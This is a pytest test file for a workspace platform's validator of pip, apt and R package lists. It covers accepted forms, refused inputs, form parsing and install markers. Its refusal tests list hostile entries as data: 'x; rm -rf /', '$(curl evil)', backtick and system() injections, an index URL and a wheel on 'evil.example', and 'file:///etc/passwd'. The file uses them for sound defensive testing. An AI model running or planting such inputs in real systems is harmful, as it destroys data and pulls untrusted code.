"""The ``packages`` option: what the schema accepts, what it refuses and why, and what a start
installs against the marker a checkpoint kept."""

from __future__ import annotations

import json

import pytest

from benchhub.package_spec import (
    MAX_ENTRY_CHARS,
    MAX_PACKAGES,
    NO_PACKAGES,
    PackageSpec,
    marker_text,
    missing_packages,
    packages_from_form,
    parse_marker,
    parse_packages,
    record_installed,
)
from benchhub.resource_models import DEFAULT_RESOURCE_MODELS, load_catalog
from benchhub.workspace_spec import OptionsError, OptionsSchema, options_from_form


@pytest.fixture
def schema() -> OptionsSchema:
    return OptionsSchema(load_catalog(DEFAULT_RESOURCE_MODELS), {"lab": "Lab"}, "lab")


def accepted(value) -> PackageSpec:
    spec, problems = parse_packages(value)
    assert problems == [], problems
    return spec


def refused(value) -> list[tuple[str, str]]:
    spec, problems = parse_packages(value)
    assert problems, f"{value!r} was accepted as {spec}"
    return [tuple(p) for p in problems]


# ---- what is accepted -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "canonical"),
    [
        ("tabulate", "tabulate"),
        ("Tabulate >= 0.9", "Tabulate>=0.9"),
        ("pandas[excel,plot]>=2,<3", "pandas[excel,plot]<3,>=2"),
        ("numpy==1.26.*", "numpy==1.26.*"),
        ("zope.interface~=6.0", "zope.interface~=6.0"),
        ("x (>=1.0)", "x>=1.0"),
    ],
)
def test_pip_requirements_are_accepted_in_their_canonical_form(given, canonical):
    assert accepted({"pip": [given]}).pip == (canonical,)


@pytest.mark.parametrize(
    "name",
    ["jq", "graphviz", "libpq-dev", "g++", "r-cran-ggplot2", "jq=1.6-2.1", "tzdata=1:2024a-0"],
)
def test_debian_package_names_with_an_optional_version_are_accepted(name):
    assert accepted({"apt": [name]}).apt == (name,)


@pytest.mark.parametrize("name", ["data.table", "ggplot2", "Matrix", "R6", "BiocManager"])
def test_cran_package_names_are_accepted(name):
    assert accepted({"r": [name]}).r == (name,)


def test_text_splits_on_spaces_and_lines_and_keeps_the_order():
    spec = accepted({"pip": "six\n tabulate  rich>=13\r\n", "apt": "jq curl", "r": ""})
    assert spec == PackageSpec(pip=("six", "tabulate", "rich>=13"), apt=("jq", "curl"))


def test_nothing_listed_is_no_packages():
    for value in (None, {}, {"pip": [], "apt": None, "r": ""}):
        assert accepted(value) == NO_PACKAGES
        assert not accepted(value)


def test_the_limits_themselves_are_allowed():
    names = [f"pkg{i}" for i in range(MAX_PACKAGES)]
    assert len(accepted({"pip": names}).pip) == MAX_PACKAGES
    longest = "a" * MAX_ENTRY_CHARS
    assert accepted({"pip": [longest]}).pip == (longest,)


# ---- what is refused, naming the field and what is allowed -----------------------------------


@pytest.mark.parametrize(
    ("entry", "why"),
    [
        ("x; rm -rf /", "is not a valid requirement"),
        ("--index-url=https://evil.example/simple", "is not a valid requirement"),
        ("-e .", "is not a valid requirement"),
        ("-r requirements.txt", "is not a valid requirement"),
        ("git+https://github.com/a/b", "is not a valid requirement"),
        ("pkg @ file:///etc/passwd", "names a URL or path"),
        ("pkg @ https://evil.example/pkg.whl", "names a URL or path"),
        ("./local/dir", "is not a valid requirement"),
        ("/tmp/x.whl", "is not a valid requirement"),
        ('six; python_version < "3"', "has an environment marker"),
        ("foo==1.0 --hash=sha256:abc", "is not a valid requirement"),
        ("$(curl evil)", "is not a valid requirement"),
        ("tabulate`id`", "is not a valid requirement"),
    ],
)
def test_hostile_pip_entries_are_refused_naming_the_field_and_the_grammar(entry, why):
    [(field, message)] = refused({"pip": [entry]})
    assert field == "packages.pip"
    assert why in message
    assert "allowed: a PEP 508 requirement" in message and "no URL, path, option" in message


APT_HOSTILE = ["x; rm -rf /", "--allow-unauthenticated", "-o", "Jq", "j", "jq:amd64"]
APT_HOSTILE += ["jq/bookworm", "jq=", "jq=latest", "../../etc", "jq\nrm"]


@pytest.mark.parametrize("entry", APT_HOSTILE)
def test_hostile_apt_entries_are_refused(entry):
    problems = refused({"apt": [entry]})
    assert all(field == "packages.apt" for field, _ in problems)
    assert any("allowed: a Debian package name" in message for _, message in problems)


@pytest.mark.parametrize(
    "entry", ["1abc", "a", "data.table.", "dplyr==1.0", "x;system('id')", "gg_plot", "ünï"]
)
def test_hostile_r_entries_are_refused(entry):
    [(field, message)] = refused({"r": [entry]})
    assert field == "packages.r" and "allowed: a CRAN package name" in message


def test_text_cannot_smuggle_an_option_between_names():
    problems = refused({"pip": "six --index-url https://evil.example/simple"})
    assert [field for field, _ in problems] == ["packages.pip", "packages.pip"]
    assert "'--index-url'" in problems[0][1] and "'https://evil" in problems[1][1]


def test_too_many_packages_are_refused_before_any_is_looked_at():
    [(field, message)] = refused({"pip": [f"p{i}" for i in range(MAX_PACKAGES + 1)]})
    assert field == "packages.pip" and f"at most {MAX_PACKAGES}" in message
    [(field, message)] = refused({"apt": "x " * 100_000})
    assert field == "packages.apt" and "too long" in message


def test_an_overlong_entry_is_refused_and_shown_shortened():
    [(field, message)] = refused({"pip": ["a" * 100_000]})
    assert field == "packages.pip" and f"longer than {MAX_ENTRY_CHARS}" in message
    assert len(message) < 400


def test_the_same_package_twice_is_refused_even_when_written_differently():
    [(field, message)] = refused({"pip": ["six", "Six==1.16"]})
    assert field == "packages.pip" and "repeats 'six'" in message
    assert refused({"apt": ["jq", "jq=1.6-2.1"]})[0][0] == "packages.apt"
    assert refused({"r": ["dplyr", "dplyr"]})[0][0] == "packages.r"
    assert accepted({"r": ["matrix", "Matrix"]}).r == ("matrix", "Matrix")  # R: case matters


@pytest.mark.parametrize(
    "value", ["tabulate", ["tabulate"], 3, {"pip": 3}, {"pip": ["ok", 4]}, {"pip": {"a": 1}}]
)
def test_a_value_of_the_wrong_shape_is_refused_with_an_example(value):
    problems = refused(value)
    assert problems[0][0] in ("packages", "packages.pip")
    assert "e.g." in problems[0][1] or "list of package names" in problems[0][1]


def test_conda_is_refused_saying_why():
    [(field, message)] = refused({"conda": ["numpy"]})
    assert field == "packages" and "allowed: pip, apt, r" in message and "conda" in message


def test_every_problem_is_reported_at_once():
    problems = refused({"pip": ["ok", "-e ."], "apt": ["Bad"], "r": ["1x"], "npm": []})
    assert sorted(field for field, _ in problems) == [
        "packages",
        "packages.apt",
        "packages.pip",
        "packages.r",
    ]


# ---- through the one options schema (REST and form) -----------------------------------------


def test_the_schema_stores_packages_canonically_and_reads_them_back(schema):
    spec = schema.parse({"packages": {"pip": "Tabulate>=0.9 six", "apt": ["jq"]}})
    stored = json.loads(json.dumps(spec.to_user_options()))
    assert stored["packages"] == {"pip": ["Tabulate>=0.9", "six"], "apt": ["jq"], "r": []}
    assert schema.parse(stored) == spec


def test_options_stored_before_packages_existed_mean_no_packages(schema):
    old = schema.parse(None).to_user_options()
    del old["packages"]
    assert schema.parse(old).packages == NO_PACKAGES


def test_the_schema_refuses_a_hostile_name_naming_the_field(schema):
    with pytest.raises(OptionsError) as refusal:
        schema.parse({"packages": {"pip": ["x; rm -rf /"]}})
    assert str(refusal.value).startswith("packages.pip: 'x; rm -rf /' is not a valid requirement")


def test_the_form_fields_become_the_packages_option(schema):
    formdata = {
        "image": ["lab"],
        "packages_pip": ["tabulate\r\nsix"],
        "packages_apt": ["jq"],
        "packages_r": [""],
        "_xsrf": ["x"],
    }
    raw = options_from_form(formdata)
    assert raw["packages"] == {"pip": "tabulate\r\nsix", "apt": "jq"}
    assert schema.parse(raw).packages == PackageSpec(pip=("tabulate", "six"), apt=("jq",))


def test_an_empty_form_means_no_packages(schema):
    raw = options_from_form({"image": ["lab"], "packages_pip": [" "], "packages_apt": [""]})
    assert "packages" not in raw
    assert schema.parse(raw).packages == NO_PACKAGES
    assert packages_from_form({"image": "lab"}) == {"image": "lab"}


# ---- what a start installs ------------------------------------------------------------------


def test_a_new_workspace_installs_everything():
    wanted = PackageSpec(pip=("six",), apt=("jq",), r=("R6",))
    assert missing_packages(wanted, NO_PACKAGES) == wanted


def test_an_unchanged_spec_installs_nothing():
    wanted = PackageSpec(pip=("six", "tabulate"), apt=("jq",))
    assert not missing_packages(wanted, record_installed(NO_PACKAGES, wanted))


def test_an_edit_installs_only_the_difference():
    before = PackageSpec(pip=("six", "tabulate"), apt=("jq",))
    after = PackageSpec(pip=("six", "tabulate>=0.9", "rich"), apt=("jq",), r=("R6",))
    assert missing_packages(after, before) == PackageSpec(pip=("tabulate>=0.9", "rich"), r=("R6",))


def test_the_marker_keeps_what_left_the_option_and_replaces_changed_versions():
    installed = PackageSpec(pip=("six", "tabulate"), apt=("jq",))
    added = PackageSpec(pip=("Tabulate>=0.9",), apt=("curl",))
    assert record_installed(installed, added) == PackageSpec(
        pip=("six", "Tabulate>=0.9"), apt=("jq", "curl")
    )


def test_the_marker_reads_back_what_it_recorded():
    installed = PackageSpec(pip=("six", "pandas[excel]<3,>=2"), apt=("jq=1.6-2.1",), r=("R6",))
    assert parse_marker(marker_text(installed)) == installed


@pytest.mark.parametrize(
    "text",
    [
        None,
        "",
        "not json",
        "[]",
        '{"pip": ["six"]}',  # no version: not a marker BenchHub wrote
        '{"version": 1, "pip": ["x; rm -rf /"]}',
        json.dumps({"version": 1, "pip": [f"p{i}" for i in range(MAX_PACKAGES + 1)]}),
    ],
)
def test_a_marker_that_is_not_ours_counts_as_nothing_installed(text):
    assert parse_marker(text) == NO_PACKAGES
